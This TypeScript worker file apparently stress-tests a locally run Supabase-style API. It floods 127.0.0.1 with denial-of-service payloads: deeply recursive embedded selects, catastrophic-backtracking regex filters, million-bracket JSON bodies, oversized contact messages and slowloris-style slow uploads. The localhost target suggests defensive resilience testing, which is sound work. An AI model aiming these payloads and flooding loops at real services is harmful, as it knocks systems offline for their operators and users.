import { request } from 'node:http';
import { connect } from 'node:net';
import { workerData } from 'node:worker_threads';

/** What the attacker's thread is told. */
export interface FloodOrder {
  port: number;
  publishableKey: string;
  /** Requests of each kind that are under way at once. */
  atOnce: number;
}

interface Attack {
  method: 'GET' | 'POST';
  path: string;
  body?: string;
}

/** `products` embeds its features, and these embed `products` again: each level multiplies the answer by 8. */
const embedding = (depth: number): string =>
  depth === 0 ? '*' : `*,product_features(*,products(${embedding(depth - 1)}))`;

/** The worst that was found against the API, as an anonymous caller may send it. */
const ATTACKS: readonly Attack[] = [
  { method: 'GET', path: `/rest/v1/products?select=${embedding(8)}` },
  { method: 'GET', path: `/rest/v1/products?select=slug&description=match.${'(.*)*'.repeat(40)}%24` },
  { method: 'POST', path: '/rest/v1/rpc/get_plan_prices', body: '['.repeat(1_000_000) },
  {
    method: 'POST',
    path: '/rest/v1/rpc/get_product_features',
    body: JSON.stringify({ product_name_param: '['.repeat(900_000) }),
  },
  { method: 'POST', path: '/functions/v1/sign-in-rep', body: JSON.stringify({ salesId: 'NOT-AN-ID' }) },
  { method: 'POST', path: '/functions/v1/submit-contact', body: `{"message":"${'x'.repeat(60_000)}"}` },
];

const { port, publishableKey, atOnce } = workerData as FloodOrder;
const target = { host: '127.0.0.1', port, localAddress: '127.0.0.1' };

for (const attack of ATTACKS) for (let n = 0; n < atOnce; n += 1) repeat(attack);
for (let n = 0; n < 10 * atOnce; n += 1) uploadSlowly();

function repeat(attack: Attack): void {
  const again = () => setTimeout(repeat, 10, attack);
  const sent = request(
    {
      ...target,
      path: attack.path,
      method: attack.method,
      agent: false,
      headers: { apikey: publishableKey, 'Content-Type': 'application/json' },
    },
    (response) => response.resume().once('close', again),
  );
  sent.once('error', again);
  sent.end(attack.body);
}

/** One byte of a thousand a second. */
function uploadSlowly(): void {
  const socket = connect(target);
  socket.on('error', () => undefined);
  socket.write(
    'POST /functions/v1/submit-contact HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 1000\r\n\r\n',
  );
  const drip = setInterval(() => socket.write('x'), 1_000);
  socket.resume();
  socket.once('close', () => {
    clearInterval(drip);
    setTimeout(uploadSlowly, 100);
  });
}
